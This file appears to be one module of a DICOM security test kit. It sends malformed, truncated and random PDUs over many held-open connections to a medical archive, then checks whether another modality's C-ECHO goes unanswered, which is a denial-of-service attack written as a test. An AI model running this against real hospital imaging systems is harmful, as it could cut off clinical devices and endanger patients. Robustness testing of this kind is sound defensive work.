"""PDUs that lie about their length, are cut, or are noise, sent by a modality that is registered."""

from __future__ import annotations

import random
import struct

from .dicom import IMPLICIT_LE, VERIFICATION, Association, associate_rq, connect, echo_works, pdu
from .kit import Brief, GaveUp, NotArmed, Result, plain, run

_SOURCE = "127.0.0.66"
_ROUNDS = 3


def hostile(ae: str, called: str) -> list[bytes]:
    """The messages, each for a connection of its own."""
    good = associate_rq(ae, called, [(VERIFICATION, IMPLICIT_LE)])
    dice = random.Random(8)
    return [
        b"\x01\x00\xff\xff\xff\xff" + b"A" * 4096,
        b"\x04\x00\x7f\xff\xff\xff" + b"B" * 4096,
        good[:40],
        good[:-1] + b"\x00" * 9,
        good.replace(struct.pack(">BxH", 0x50, 0), b"")[:74] + b"\x20\x00\xff\xff" + b"C" * 32,
        pdu(0x01, b""),
        pdu(0x09, b"D" * 64),
        bytes(dice.randrange(256) for _ in range(2048)),
        b"GET / HTTP/1.1\r\nHost: archive\r\n\r\n",
    ]


def attack(brief: Brief) -> Result:
    """Succeeds when another modality's C-ECHO is no longer answered while or after the messages were sent."""
    device, called = brief["device"], brief["dicom"]["called_ae"]
    if not echo_works(brief, brief["innocent"]):
        raise NotArmed("the other modality got no answer even before")
    held = []
    sent = 0
    for message in hostile(device["ae"], called) * _ROUNDS:
        try:
            stream = connect(brief, device, source=_SOURCE)
            held.append(stream)
            stream.sendall(message)
            sent += 1
        except OSError as failure:
            last = plain(failure)
            return _verdict(brief, sent, f"connection refused after {sent}: {last}")
    for control in (b"\x00\x00\x00\x02\x01\x03", b"\xff\xff\xff\xff\x01\x03", b"\x00\x00\x00\x01\x01\x03"):
        try:
            stream = connect(brief, device, source=_SOURCE)
            held.append(stream)
            Association(stream, device["ae"], called, [(VERIFICATION, IMPLICIT_LE)])
            stream.sendall(pdu(0x04, control))
            sent += 1
        except (OSError, GaveUp):
            continue
    result = _verdict(brief, sent, "all sent")
    for stream in held:
        stream.close()
    return result


def _verdict(brief: Brief, sent: int, note: str) -> Result:
    works = echo_works(brief, brief["innocent"])
    return Result(
        not works,
        f"{sent} hostile messages ({note}); the other modality {'works' if works else 'is cut off'}",
    )


if __name__ == "__main__":
    run(attack)
